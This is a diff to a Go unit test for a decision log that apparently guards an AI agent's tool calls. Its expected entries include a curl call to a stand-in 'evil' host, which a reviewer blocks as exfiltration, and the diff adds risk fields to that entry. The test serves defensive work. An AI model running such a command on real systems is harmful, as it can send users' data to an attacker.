@@ -446,7 +446,7 @@ func TestDecisionLog(t *testing.T) {
 		{"event": "before_tool_use", "session": "s", "shell": "bash", "tool": "Bash", "use": "use of ls -la", "command": "ls -la", "decision": "allow", "rules": []any{"ls.allow"}, "reach": "local"},
 		{"event": "before_tool_use", "session": "s", "shell": "bash", "tool": "WebFetch", "use": "use of WebFetch", "args": []any{[]any{"url", "https://example.org/"}}, "decision": "skip", "reach": "network", "seen": []any{"WebFetch example.org"}},
 		{"event": "before_tool_use", "session": "s", "shell": "bash", "tool": "Bash", "use": "use of curl https://x.example/evil", "command": "curl https://x.example/evil", "decision": "block", "corruption": 2.0,
-			"reason": "Flagged by the reviewer: it would send data out (exfiltration)", "rules": []any{"cop.flag", "curl.allow"}, "provider": "openai", "reach": "network", "cop": "flag", "cop_code": "exfiltration"},
+			"reason": "Flagged by the reviewer: it would send data out (exfiltration)", "rules": []any{"cop.flag", "curl.allow"}, "provider": "openai", "reach": "network", "cop": "flag", "cop_code": "exfiltration", "cop_text": "it would send data out (exfiltration)", "cop_risk": "critical"},
 		{"event": "after_tool_use", "session": "s", "shell": "bash", "agent": "a1", "tool": "WebFetch", "use": "use of WebFetch", "args": []any{[]any{"url", "https://example.org/"}}},
 	}
 	if diff := cmp.Diff(want, got); diff != "" {
